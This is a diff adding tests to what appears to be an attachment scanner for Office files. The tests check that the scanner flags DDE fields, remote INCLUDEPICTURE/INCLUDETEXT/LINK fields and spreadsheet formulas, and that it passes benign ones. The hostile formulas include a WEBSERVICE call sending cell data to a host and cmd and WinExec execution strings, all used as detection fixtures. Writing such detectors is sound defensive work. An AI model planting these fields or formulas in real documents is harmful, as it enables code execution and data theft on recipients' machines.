@@ -135,6 +135,50 @@ describe('an office document', () => {
     ])
   })
 
+  it('hides no field in a part of another name, nor in a section of characters', async () => {
+    const run = '<w:document><w:instrText><![CDATA[ DDEAUTO cmd ]]></w:instrText></w:document>'
+    for (const name of ['word/document.xml', 'word/document2.dat', 'word/media/a.png'])
+      expect(await codesOf({ name, content: run }), name).to.deep.equal(['attachment.dde'])
+    expect(await codesOf({ name: 'word/a.bin', content: Buffer.from(`\ufeff\n ${run}`, 'utf16le') })).to.deep.equal([
+      'attachment.dde',
+    ])
+    const picture = '<!DOCTYPE svg><svg><text>DDE</text></svg>'
+    expect(await codesOf({ name: 'word/media/a.svg', content: picture })).to.deep.equal([])
+  })
+
+  it('fetches nothing by a field or a formula, nor starts anything by one', async () => {
+    const field = (code: string) =>
+      codesOf({ name: 'word/document.xml', content: `<d><instrText>${code}</instrText></d>` })
+    for (const code of [
+      ' INCLUDEPICTURE "http://192.0.2.1/a.png" \\d ',
+      ' INCLUDEPICTURE \\d "https://a/b" ',
+      ' INCLUDETEXT "\\\\\\\\192.0.2.1\\\\a.docx" ',
+      ' LINK Excel.Sheet.12 "\\\\\\\\a\\\\b.xlsx" R1C1 \\a ',
+      ' includepicture file://server/a.png ',
+    ])
+      expect(await field(code), code).to.deep.equal(['attachment.remote-content'])
+    for (const code of [
+      ' HYPERLINK "https://example.org/" ',
+      ' INCLUDEPICTURE "media/a.png" \\* MERGEFORMAT ',
+      ' INCLUDEPICTURE "file:///C:\\\\a.png" ',
+      ' TOC \\o "1-3" \\h ',
+      ' PAGEREF _Toc1 \\h ',
+    ])
+      expect(await field(code), code).to.deep.equal([])
+    const cell = (formula: string) =>
+      codesOf({ name: 'xl/worksheets/sheet1.xml', content: `<s><c><f>${formula}</f><v>1</v></c></s>` })
+    for (const formula of ['_xlfn.WEBSERVICE("http://a/?"&amp;A1)', '_xlfn.IMAGE("http://a")', 'if(1,image ("x"),0)'])
+      expect(await cell(formula), formula).to.deep.equal(['attachment.remote-content'])
+    for (const formula of ["cmd|'/C calc'!A0", 'CALL("kernel32","WinExec","JCJ","calc",0)', 'RTD("x",,"y")'])
+      expect(await cell(formula), formula).to.deep.equal(['attachment.dde'])
+    for (const formula of [
+      'SUM(A1:A9)',
+      'IF(A1>0,"CALL",""&B1)'.replaceAll('&', '&amp;').replaceAll('>', '&gt;'),
+      'IMAGINARY(A1)',
+    ])
+      expect(await cell(formula), formula).to.deep.equal([])
+  })
+
   it('is damaged where a part is not well-formed or brings entities of its own', async () => {
     for (const content of [
       '<a>',
